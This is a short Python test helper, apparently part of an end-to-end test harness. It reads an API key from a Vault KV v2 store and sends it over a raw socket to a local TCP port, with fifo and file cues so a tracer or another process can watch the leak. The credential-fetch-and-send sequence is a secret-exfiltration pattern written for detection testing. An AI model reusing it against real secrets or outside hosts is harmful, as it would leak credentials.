#!/usr/bin/python3
"""e2e agent: read a KV v2 secret with urllib and send one field to a local
TCP server.
usage: py_kv_leak.py VAULT_URL TOKEN_FILE PORT [--go-fifo PATH] [--linger S]
                     [--fetched PATH --send-after PATH]
  --go-fifo: wait until a line can be read from this fifo before fetching
             (so a tracer can attach to this process first)
  --linger:  sleep this long after sending (keeps the process alive)
  --fetched: create this file once the secret is read; --send-after: wait until this
             file exists before sending (another process's cue)"""
import argparse
import json
import os
import socket
import time
import urllib.request

ap = argparse.ArgumentParser()
ap.add_argument("vault")
ap.add_argument("token_file")
ap.add_argument("port", type=int)
ap.add_argument("--path", default="secret/data/agent/openai")
ap.add_argument("--field", default="api_key")
ap.add_argument("--go-fifo")
ap.add_argument("--linger", type=float, default=0)
ap.add_argument("--fetched")
ap.add_argument("--send-after")
a = ap.parse_args()
with open(a.token_file) as f:
    token = f.read().strip()
if a.go_fifo:
    with open(a.go_fifo) as f:
        f.readline()
req = urllib.request.Request(a.vault + "/v1/" + a.path, headers={"X-Vault-Token": token})
with urllib.request.urlopen(req, timeout=10) as resp:
    value = json.loads(resp.read())["data"]["data"][a.field]
if a.fetched:
    open(a.fetched, "w").close()
while a.send_after and not os.path.exists(a.send_after):
    time.sleep(0.01)
s = socket.create_connection(("127.0.0.1", a.port), timeout=10)
s.sendall(("key=%s\n" % value).encode())
s.close()
if a.linger:
    time.sleep(a.linger)
